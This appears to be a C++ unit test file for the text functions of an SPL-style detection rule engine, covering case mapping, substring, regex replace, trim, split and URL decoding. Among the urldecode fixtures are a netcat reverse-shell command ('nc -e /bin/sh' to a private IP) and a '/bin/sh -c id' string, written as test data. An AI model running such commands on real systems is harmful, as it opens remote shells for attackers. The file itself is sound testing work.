// Text functions: lower, upper, len, substr, replace, trim family, split,
// urldecode (spl-semantics.md §2.3, §2.5, §2.8).
#include <string>

#include "fn_test_util.h"

namespace rulejit::rt::testing {
namespace {

TEST(Lower, DocExampleMakesCaseInsensitiveCompareWork) {
  // §2.3: where lower(process_name)="cmd.exe" keeps {"process_name":"CMD.EXE"}.
  EXPECT_EQ(call("lower", {S("CMD.EXE")}), S("cmd.exe"));
  EXPECT_EQ(call("upper", {S("cmd.exe")}), S("CMD.EXE"));
}

TEST(Lower, AppliesToEveryValueOfAMultivalue) {
  EXPECT_EQ(call("lower", {M({"A", "Bc"})}), M({"a", "bc"}));
  EXPECT_EQ(call("upper", {M({"a", "Bc"})}), M({"A", "BC"}));
}

TEST(Lower, NullAndNumbers) {
  EXPECT_EQ(call("lower", {kNull}), kNull);
  EXPECT_EQ(call("upper", {N(12.5)}), S("12.5"));
  EXPECT_EQ(call("lower", {S("")}), S(""));
}

TEST(Lower, UnicodeLettersAreMapped) {
  EXPECT_EQ(call("lower", {S("ÉCOLE ÀÖ Ÿ ΣΩ ДОМ Ё")}), S("école àö ÿ σω дом ё"));
  EXPECT_EQ(call("upper", {S("école àö ÿ σω дом ё ß")}), S("ÉCOLE ÀÖ Ÿ ΣΩ ДОМ Ё ß"));
  EXPECT_EQ(call("lower", {S("ŁÓDŹ Ā")}), S("łódź ā"));
  EXPECT_EQ(call("upper", {S("łódź ā")}), S("ŁÓDŹ Ā"));
}

TEST(Lower, InvalidUtf8PassesThrough) {
  std::string bad = "A\xff\xc3";
  EXPECT_EQ(call("lower", {S(bad)}), S(std::string("a\xff\xc3")));
}

TEST(Len, CountsCodePoints) {
  EXPECT_EQ(call("len", {S("héllo")}), N(5));  // §2.8 example
  EXPECT_EQ(call("len", {S("")}), N(0));
  EXPECT_EQ(call("len", {S("日本語")}), N(3));
  EXPECT_EQ(call("len", {S("😀")}), N(1));
  EXPECT_EQ(call("len", {N(12345)}), N(5));
  EXPECT_EQ(call("len", {kNull}), kNull);
  EXPECT_EQ(call("len", {S(std::string("\xff\xfe", 2))}), N(2));  // invalid bytes count one each
}

TEST(Len, MultivalueUsesFirstValue) { EXPECT_EQ(call("len", {M({"abc", "de"})}), N(3)); }

TEST(Substr, DocExamples) {
  EXPECT_EQ(call("substr", {S("string"), N(1), N(3)}), S("str"));
  EXPECT_EQ(call("substr", {S("string"), N(-3)}), S("ing"));
}

TEST(Substr, EdgeCases) {
  EXPECT_EQ(call("substr", {S("string"), N(3)}), S("ring"));
  EXPECT_EQ(call("substr", {S("string"), N(0), N(2)}), S("st"));  // 0 behaves like 1
  EXPECT_EQ(call("substr", {S("string"), N(-10)}), S("string"));
  EXPECT_EQ(call("substr", {S("string"), N(7)}), S(""));
  EXPECT_EQ(call("substr", {S("string"), N(2), N(100)}), S("tring"));
  EXPECT_EQ(call("substr", {S("string"), N(2), N(0)}), S(""));
  EXPECT_EQ(call("substr", {S("string"), N(2), N(-1)}), S(""));
  EXPECT_EQ(call("substr", {S("héllo"), N(2), N(2)}), S("él"));
  EXPECT_EQ(call("substr", {S("string"), S("2"), S("2")}), S("tr"));  // numeric text
  EXPECT_EQ(call("substr", {S("string"), S("x")}), kNull);
  EXPECT_EQ(call("substr", {kNull, N(1)}), kNull);
  EXPECT_EQ(call("substr", {N(12345), N(2), N(3)}), S("234"));
}

TEST(Replace, DocExampleWithBackreferences) {
  EXPECT_EQ(call("replace", {S("1/14/2023"), S("^(\\d+)/(\\d+)/"), S("\\2/\\1/")}), S("14/1/2023"));
}

TEST(Replace, ReplacesAllMatches) {
  EXPECT_EQ(call("replace", {S("a1b22c333"), S("\\d"), S("#")}), S("a#b##c###"));
  EXPECT_EQ(call("replace", {S("aaa"), S("a"), S("")}), S(""));
  EXPECT_EQ(call("replace", {S("abc"), S("x*"), S("-")}), S("-a-b-c-"));
  EXPECT_EQ(call("replace", {S("abc"), S("z"), S("y")}), S("abc"));
}

TEST(Replace, SecurityContentBackslashIdiom) {
  // replace(WorkstationName,"\\\\","") after the SPL lexer is the PCRE
  // pattern \\ (one literal backslash): removes every backslash.
  EXPECT_EQ(call("replace", {S("\\\\HOST"), S("\\\\"), S("")}), S("HOST"));
}

TEST(Replace, NullsAndErrors) {
  EXPECT_EQ(call("replace", {kNull, S("a"), S("b")}), kNull);
  EXPECT_EQ(call("replace", {S("a"), kNull, S("b")}), kNull);
  EXPECT_THROW(call("replace", {S("a"), S("("), S("b")}), EvalError);
}

TEST(Replace, WorksOnUnicodeAndNumbers) {
  EXPECT_EQ(call("replace", {S("héllo"), S("é"), S("e")}), S("hello"));
  EXPECT_EQ(call("replace", {N(1234), S("3"), S("x")}), S("12x4"));
  EXPECT_EQ(call("replace", {S("日本"), S(""), S("|")}), S("|日|本|"));
}

TEST(Trim, DocExampleUsesSetSemantics) {
  EXPECT_EQ(call("trim", {S("  ZZabcZ "), S(" Z")}), S("abc"));
}

TEST(Trim, DefaultsToSpaceAndTab) {
  EXPECT_EQ(call("trim", {S(" \t x y \t ")}), S("x y"));
  EXPECT_EQ(call("ltrim", {S("  x  ")}), S("x  "));
  EXPECT_EQ(call("rtrim", {S("  x  ")}), S("  x"));
  EXPECT_EQ(call("trim", {S("\nx\n")}), S("\nx\n"));  // newline is not in the default set
  EXPECT_EQ(call("trim", {S("   ")}), S(""));
  EXPECT_EQ(call("trim", {S("")}), S(""));
  EXPECT_EQ(call("trim", {kNull}), kNull);
}

TEST(Trim, CustomSetsIncludingUnicode) {
  EXPECT_EQ(call("ltrim", {S("0001200"), S("0")}), S("1200"));
  EXPECT_EQ(call("rtrim", {S("0001200"), S("0")}), S("00012"));
  EXPECT_EQ(call("trim", {S("«quoted»"), S("«»")}), S("quoted"));
  EXPECT_EQ(call("trim", {S("\"C:\\x\""), S("\"")}), S("C:\\x"));
}

TEST(Split, DocExample) { EXPECT_EQ(call("split", {S("a;b"), S(";")}), M({"a", "b"})); }

TEST(Split, EmptyDelimiterSplitsIntoCharacters) {
  EXPECT_EQ(call("split", {S("abc"), S("")}), M({"a", "b", "c"}));
  EXPECT_EQ(call("split", {S("hé"), S("")}), M({"h", "é"}));
}

TEST(Split, KeepsEmptyPiecesAndCollapsesSingle) {
  EXPECT_EQ(call("split", {S("a;;b;"), S(";")}), M({"a", "", "b", ""}));
  EXPECT_EQ(call("split", {S("abc"), S(";")}), S("abc"));
  EXPECT_EQ(call("split", {S(""), S(";")}), S(""));
  EXPECT_EQ(call("split", {S("a::b::c"), S("::")}), M({"a", "b", "c"}));
  EXPECT_EQ(call("split", {kNull, S(";")}), kNull);
}

TEST(Urldecode, DocExample) { EXPECT_EQ(call("urldecode", {S("a%2Fb")}), S("a/b")); }

TEST(Urldecode, EdgeCases) {
  EXPECT_EQ(call("urldecode", {S("http%3A%2F%2Fwww.splunk.com%2Fdownload%3Fr%3Dheader")}),
            S("http://www.splunk.com/download?r=header"));
  EXPECT_EQ(call("urldecode", {S("%e6%97%a5")}), S("日"));
  EXPECT_EQ(call("urldecode", {S("100%")}), S("100%"));
  EXPECT_EQ(call("urldecode", {S("%zz%4")}), S("%zz%4"));
  EXPECT_EQ(call("urldecode", {S("a+b")}), S("a+b"));  // policy::kUrldecodePlusIsSpace
  EXPECT_EQ(call("urldecode", {kNull}), kNull);
  // Text before the first escape is kept as is, escapes anywhere decode.
  EXPECT_EQ(call("urldecode", {S("/bin/sh -c id")}), S("/bin/sh -c id"));
  EXPECT_EQ(call("urldecode", {S("")}), S(""));
  EXPECT_EQ(call("urldecode", {S("nc -e /bin/sh 10.0.0.1%2F4444 %41")}), S("nc -e /bin/sh 10.0.0.1/4444 A"));
  EXPECT_EQ(call("urldecode", {S("%41bc")}), S("Abc"));
  EXPECT_EQ(call("urldecode", {N(42)}), S("42"));
}

TEST(StringFunctions, HugeInputs) {
  std::string big(1 << 20, 'a');
  big += "XYZ";
  EXPECT_EQ(call("len", {S(big)}), N((1 << 20) + 3));
  EXPECT_EQ(call("substr", {S(big), N(-3)}), S("XYZ"));
  EXPECT_EQ(call("lower", {S(big)}).as_string().substr((1 << 20)), "xyz");
  EXPECT_EQ(call("replace", {S(big), S("a+"), S("")}), S("XYZ"));
  EXPECT_EQ(call("split", {S(big), S("")}).count(), (1u << 20) + 3);
}

}  // namespace
}  // namespace rulejit::rt::testing
